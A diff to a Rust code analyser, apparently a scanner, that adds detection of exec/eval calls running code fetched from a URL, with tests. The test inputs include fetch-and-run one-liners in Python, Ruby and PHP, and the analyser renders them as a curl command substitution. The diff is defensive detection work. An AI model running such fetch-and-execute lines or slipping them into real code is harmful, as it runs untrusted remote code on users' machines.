@@ -2050,7 +2050,9 @@ fn language_call(word: &str, lang: Lang) -> Option<Call> {
 
 /// What code run by the program's own `exec`/`eval` runs: a literal is read as code of the
 /// language (to [`MAX_EVAL_DEPTH`]; deeper, it is a hidden payload), a value decoded at run time
-/// is a hidden payload (`exec(base64.b64decode(data))`), anything else is not looked into.
+/// is a hidden payload (`exec(base64.b64decode(data))`), one fetched from a URL the code names
+/// is downloaded code (`exec(urlopen("https://…").read())` runs as `python3 -c "$(curl …)"`),
+/// anything else is not looked into.
 fn evaluated(
     lang: Lang,
     args: &[&[Token]],
@@ -2081,10 +2083,29 @@ fn evaluated(
         (_, true) => decoded_run(lang.runs_code(), Decoding::Base64)
             .into_iter()
             .collect(),
+        _ if names_a_url(&arg) => vec![format!(
+            "{} \"$(curl -fsSL \"{RUN_TIME}\")\"",
+            lang.runs_code()
+        )],
         // A file's code (`exec(open('setup.py').read())`) runs like `python3 setup.py`.
         _ if reads_a_file(&arg) => Vec::new(),
         _ => vec![COMPUTED.to_owned()],
     }
+}
+
+/// Whether an evaluated argument names a network URL in a string literal
+/// (`urlopen("https://x").read()`, `URI.open("https://x").read`): what it reads is fetched,
+/// not a file's.
+fn names_a_url(arg: &[&Token]) -> bool {
+    arg.iter().any(|token| match token {
+        Token::Str { text, .. } => {
+            let lower = text.trim_start().to_ascii_lowercase();
+            ["http://", "https://", "ftp://"]
+                .iter()
+                .any(|scheme| lower.starts_with(scheme))
+        }
+        _ => false,
+    })
 }
 
 /// Whether an evaluated argument is a file's content (`open('x.py').read()`,
@@ -3205,6 +3226,23 @@ mod tests {
         ] {
             assert!(!lists(lang, text), "{text}");
         }
+    }
+
+    #[test]
+    fn code_fetched_from_a_named_url_is_downloaded_code() {
+        let fetched = |lang, text| {
+            commands(lang, text)
+                .iter()
+                .any(|command| command.contains("$(curl -fsSL"))
+        };
+        assert!(fetched(
+            Lang::Python,
+            "import urllib.request as u; exec(u.urlopen('https://x/i.py').read())"
+        ));
+        assert!(fetched(Lang::Ruby, "eval URI.open('HTTPS://x/i.rb').read"));
+        assert!(fetched(Lang::Php, "eval(file_get_contents('ftp://x/i'));"));
+        assert!(!fetched(Lang::Python, "exec(open('setup.py').read())"));
+        assert!(!fetched(Lang::Python, "print(urlopen('https://x').read())"));
     }
 
     #[test]
